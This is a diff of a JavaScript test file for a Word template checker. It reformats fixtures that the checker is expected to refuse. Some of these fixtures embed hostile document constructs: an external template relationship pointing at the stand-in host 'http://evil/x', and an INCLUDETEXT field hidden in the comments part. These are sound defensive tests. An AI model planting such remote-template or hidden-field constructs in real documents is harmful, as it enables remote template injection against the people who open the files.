@@ -32,7 +32,8 @@ describe('a template that hides what it fetches or runs', () => {
       {
         'word/_rels/settings.xml.rels':
           '<p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships">' +
-          `<p:Relationship Id="r1" Type="${template}" Target="http://evil/x" TargetMode="External"/></p:Relationships>`,
+          `<p:Relationship Id="r1" Type="${template}" Target="http://evil/x" TargetMode="External"/>` +
+          `</p:Relationships>`,
       },
     ],
     [
@@ -46,7 +47,8 @@ describe('a template that hides what it fetches or runs', () => {
     [
       'in a part that holds no text of its own',
       {
-        'word/comments.xml': `<w:comments xmlns:w="${word}"><w:instrText>INCLUDETEXT x</w:instrText></w:comments>`,
+        'word/comments.xml':
+          `<w:comments xmlns:w="${word}">` + `<w:instrText>INCLUDETEXT x</w:instrText></w:comments>`,
       },
     ],
   ])('is refused: %s', async (_, change) => {
@@ -71,7 +73,8 @@ describe('a small template that is long to read', () => {
   it.each(['{{受理量}}', '{{x}}', '{{', '}}', '{{#如果 受理量 > 1}}', '{'])(
     'of many %s in one paragraph says what is wrong',
     async text => {
-      const body = `<w:document xmlns:w="${word}"><w:body><w:p><w:r><w:t>${many(text)}</w:t></w:r></w:p></w:body></w:document>`
+      const run = `<w:r><w:t>${many(text)}</w:t></w:r>`
+      const body = `<w:document xmlns:w="${word}"><w:body><w:p>${run}</w:p></w:body></w:document>`
       const { problems } = await checkTemplate(await changed({ 'word/document.xml': body }))
       expect(Array.isArray(problems)).toBe(true)
     },
